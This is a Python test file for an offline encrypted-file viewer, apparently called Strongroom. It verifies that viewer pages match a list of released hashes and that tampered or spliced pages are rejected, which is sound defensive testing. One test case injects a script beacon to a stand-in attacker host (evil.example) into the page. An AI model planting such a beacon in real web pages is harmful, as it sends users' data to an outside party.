"""`strongroom open` judges the page around the data: only released Strongroom viewers
pass (src/strongroom/crypto/viewer_hashes.json, one entry per viewer ever released)."""

from __future__ import annotations

import json
from importlib import resources
from pathlib import Path

import pytest

from strongroom.crypto import offline

from .helpers import PASSPHRASE, build, cheap_keys, sample_entries

V1_RELEASED = Path(__file__).resolve().parent / "fixtures" / "v1-released-viewer.html"


def _listed() -> dict[str, str]:
    text = (resources.files("strongroom.crypto") / "viewer_hashes.json").read_text("utf-8")
    return {entry["sha256"]: entry["viewer"] for entry in json.loads(text)["viewers"]}


def test_the_viewer_this_version_builds_with_is_on_the_released_list():
    """Changing viewer.html, viewer.js or viewer.css changes this hash: add the new entry
    (never remove one), or files built by this version would be refused by the next."""
    own = offline.viewer_own_sha256()
    assert own in _listed(), f"add {own} to src/strongroom/crypto/viewer_hashes.json"
    html = build(cheap_keys(), sample_entries())
    assert offline.viewer_skeleton_sha256(html) == own
    assert offline.viewer_check(html)


def test_the_released_version_1_viewer_stays_accepted():
    assert offline.viewer_skeleton_sha256(V1_RELEASED.read_bytes()) in _listed()
    assert offline.viewer_check(V1_RELEASED.read_bytes()).startswith("viewer 1")


@pytest.mark.parametrize(
    "edit",
    [
        (b"<script>", b"<script>navigator.sendBeacon('https://evil.example',1);"),
        (b"</body>", b"<img src=x></body>"),
        (b"<title>Strongroom", b"<title>Urgent - Strongroom"),
        (b"<!DOCTYPE html>", b"<!DOCTYPE html>\n"),
    ],
    ids=["script", "markup", "text", "whitespace"],
)
def test_any_edit_outside_the_data_is_a_foreign_viewer(edit):
    html = build(cheap_keys(), sample_entries())
    edited = html.replace(edit[0], edit[1], 1)
    assert edited != html
    with pytest.raises(offline.OfflineViewerForeign, match="do not open it in a browser"):
        offline.viewer_check(edited)
    # The data itself still authenticates: the viewer check is what catches this page.
    assert offline.offline_file_open(html=edited, passphrase=PASSPHRASE)


def test_the_version_1_viewer_around_version_2_data_is_unsupported_as_it_would_say():
    """The red team's splice: genuine format 2 data inside the released version 1 page.
    That page says "unsupported" in a browser; `strongroom open` says the same."""
    v1_page = V1_RELEASED.read_bytes()
    genuine = build(cheap_keys(), sample_entries())

    def element(html: bytes, opening: bytes) -> bytes:
        return html.split(opening, 1)[1].split(b"</script>", 1)[0]

    spliced = v1_page
    for opening in (offline.HEADER_OPEN, offline.PAYLOAD_OPEN):
        spliced = spliced.replace(
            opening + element(v1_page, opening), opening + element(genuine, opening), 1
        )
    assert offline.offline_file_open(html=spliced, passphrase=PASSPHRASE)  # the data is fine
    with pytest.raises(offline.OfflineFormatUnsupported, match="cannot read format 2"):
        offline.viewer_check(spliced)
